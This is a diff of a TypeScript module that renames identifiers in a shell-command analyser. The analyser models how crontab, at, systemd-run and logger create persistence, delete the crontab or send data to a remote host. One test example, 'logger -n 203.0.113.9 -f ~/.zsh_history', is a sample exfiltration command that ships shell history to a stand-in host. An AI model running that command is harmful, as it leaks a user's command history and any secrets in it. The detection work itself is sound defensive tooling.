@@ -1,58 +1,64 @@
 import type { DataSource } from '../../words.ts'
-import { reads, stdinText, textOf, value } from '../files/touching.ts'
-import type { Spec, SubReader } from '../form/form.ts'
-import { fileSource } from '../network/data.ts'
+import { makeValue, readStdinText, readWordText, recordReads } from '../files/touching.ts'
+import type { ProgramSpec, SpecCallHandler } from '../form/form.ts'
+import { readFileSource } from '../network/data.ts'
 import { readOptions } from '../options.ts'
-import type { Program, Scribe } from '../program.ts'
-import { changesHere, lineOf, says } from './words-of.ts'
+import type { EffectRecorder, Program } from '../program.ts'
+import { hasMatchingWord, joinArguments, recordMachineChange } from './words-of.ts'
 
 /** Reads the commands of a crontab so that what they do is seen too. */
-function readTable(text: string, scribe: Scribe): void {
+function readCrontab(text: string, recorder: EffectRecorder): void {
   for (const line of text.split('\n')) {
     const entry = /^\s*(?:@\w+|(?:[\d*/,\-a-zA-Z]+\s+){5})\s*(\S.*)$/.exec(line)
-    if (entry?.[1] && !line.trim().startsWith('#')) scribe.runsShell(value(entry[1], []), 'cron')
+    if (entry?.[1] && !line.trim().startsWith('#')) recorder.runsShell(makeValue(entry[1], []), 'cron')
   }
 }
 
 const crontab: Program = {
   names: ['crontab', 'fcrontab'],
-  read: (command, scribe) => {
+  read: (command, recorder) => {
     const options = readOptions(command.args, { flags: '-leriTn', values: '-ucs' })
     if (options.has('l', 'T', 'n') && !options.has('r')) return 'proven'
     if (options.has('r')) {
-      const path = scribe.pathOf(`/var/spool/cron/crontabs/${options.value('u')?.text ?? scribe.facts.user}`)
-      scribe.effect({ kind: 'delete-path', path, recursive: false, wipe: false, by: 'crontab -r' })
+      const path = recorder.pathOf(`/var/spool/cron/crontabs/${options.value('u')?.text ?? recorder.facts.user}`)
+      recorder.effect({ kind: 'delete-path', path, recursive: false, wipe: false, by: 'crontab -r' })
       return 'plain'
     }
     const [file] = options.operands
-    const text = file ? textOf(file, command, scribe) : stdinText(command)
-    if (file) reads([file], scribe)
+    const text = file ? readWordText(file, command, recorder) : readStdinText(command)
+    if (file) recordReads([file], recorder)
     const certainty = options.has('e') ? 'likely' : 'certain'
-    scribe.effect({ kind: 'persist', mechanism: 'cron', target: options.value('u')?.text ?? 'crontab', certainty })
-    if (text !== undefined) readTable(text, scribe)
+    recorder.effect({ kind: 'persist', mechanism: 'cron', target: options.value('u')?.text ?? 'crontab', certainty })
+    if (text !== undefined) readCrontab(text, recorder)
     return 'plain'
   },
 }
 
 /** `echo command | at 5pm`: a shell runs it later. */
-const at: Program = {
+const atProgram: Program = {
   names: ['at', 'batch'],
-  read: (command, scribe) => {
+  read: (command, recorder) => {
     const { args, stdin } = command
-    if (says(command, /^-[lcV]$/) || (args.length <= 2 && args[0]?.text === '-q' && stdin.kind === 'inherited'))
+    if (
+      hasMatchingWord(command, /^-[lcV]$/) ||
+      (args.length <= 2 && args[0]?.text === '-q' && stdin.kind === 'inherited')
+    )
       return 'proven'
-    if (says(command, /^-[dr]$/))
-      return changesHere({ system: 'at', verb: 'cancel', target: args.at(-1)?.text ?? '?', family: 'job' }, scribe)
-    scribe.effect({ kind: 'persist', mechanism: 'at', target: lineOf(args) })
-    const text = stdinText(command)
-    if (text !== undefined) scribe.runsShell(value(text, []), 'at')
+    if (hasMatchingWord(command, /^-[dr]$/))
+      return recordMachineChange(
+        { system: 'at', verb: 'cancel', target: args.at(-1)?.text ?? '?', family: 'job' },
+        recorder,
+      )
+    recorder.effect({ kind: 'persist', mechanism: 'at', target: joinArguments(args) })
+    const text = readStdinText(command)
+    if (text !== undefined) recorder.runsShell(makeValue(text, []), 'at')
     return 'plain'
   },
 }
 
 const systemdRun: Program = {
   names: ['systemd-run'],
-  read: (command, scribe) => {
+  read: (command, recorder) => {
     const grammar = {
       flags:
         '-qtPrGdS user system scope remain-after-exit no-block wait pty pipe quiet collect same-dir shell no-ask-password',
@@ -65,16 +71,16 @@ const systemdRun: Program = {
     // A service of its own outlives the session; a scope, or one that is waited for, does not.
     const stays = !options.has('scope', 'wait', 'pty', 'pipe', 't', 'P', 'shell', 'S') && options.operands.length > 0
     if (timed || stays)
-      scribe.effect({ kind: 'persist', mechanism: 'systemd', target: options.operands[0]?.known ?? 'timer' })
-    const standing = options.operands.length > 0 ? scribe.runs(options.operands, 'systemd-run') : 'plain'
-    return options.unknown.length > 0 ? 'unknown' : timed || stays || standing === 'proven' ? 'plain' : standing
+      recorder.effect({ kind: 'persist', mechanism: 'systemd', target: options.operands[0]?.known ?? 'timer' })
+    const grade = options.operands.length > 0 ? recorder.runs(options.operands, 'systemd-run') : 'plain'
+    return options.unknown.length > 0 ? 'unknown' : timed || stays || grade === 'proven' ? 'plain' : grade
   },
 }
 
 /** The file that `logger -f` puts into the log, and the machine that `-n` sends it to. */
-const logs: SubReader = ({ loose, command: { args, stdin }, scribe }) => {
+const recordLoggerData: SpecCallHandler = ({ loose, command: { args, stdin }, recorder }) => {
   const word = loose.value('-f', '--file')
-  const file = word && fileSource(word, scribe)
+  const file = word && readFileSource(word, recorder)
   const host = loose.value('-n', '--server')?.known
   if (host === undefined) return 'plain'
   const payload: readonly DataSource[] = file
@@ -82,11 +88,11 @@ const logs: SubReader = ({ loose, command: { args, stdin }, scribe }) => {
     : stdin.kind === 'value'
       ? stdin.value.sources
       : args.flatMap((each) => each.sources.filter((source) => source.kind !== 'literal'))
-  scribe.effect({ kind: 'send-data', host, channel: 'socket', payload })
+  recorder.effect({ kind: 'send-data', host, channel: 'socket', payload })
   return 'plain'
 }
 
-export const RECORDS: readonly Spec[] = [
+export const LOG_AND_JOB_SPECS: readonly ProgramSpec[] = [
   {
     names: 'atrm',
     system: 'at',
@@ -111,9 +117,9 @@ export const RECORDS: readonly Spec[] = [
   {
     names: 'logger',
     options: '-n: -f: -t: -p:',
-    rules: [['**', logs]],
+    rules: [['**', recordLoggerData]],
     examples: { match: ['logger -n 203.0.113.9 -f ~/.zsh_history'], pass: ['logger done'] },
   },
 ]
 
-export const SCHEDULES: readonly Program[] = [crontab, at, systemdRun]
+export const SCHEDULE_PROGRAMS: readonly Program[] = [crontab, atProgram, systemdRun]
